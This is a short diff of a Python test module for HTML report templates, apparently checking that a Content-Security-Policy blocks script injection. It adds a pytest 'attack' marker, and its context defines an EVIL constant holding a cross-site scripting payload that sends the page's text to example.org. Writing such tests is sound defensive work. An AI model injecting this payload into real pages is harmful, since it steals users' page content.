@@ -15,6 +15,8 @@ from copipe.report import html
 from copipe.report.templates import own
 from tests.report.templates.test_fill import seen
 
+pytestmark = pytest.mark.attack("templates")
+
 POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
 EVIL = '<script>fetch("https://example.org/" + document.body.innerText)</script>'
 
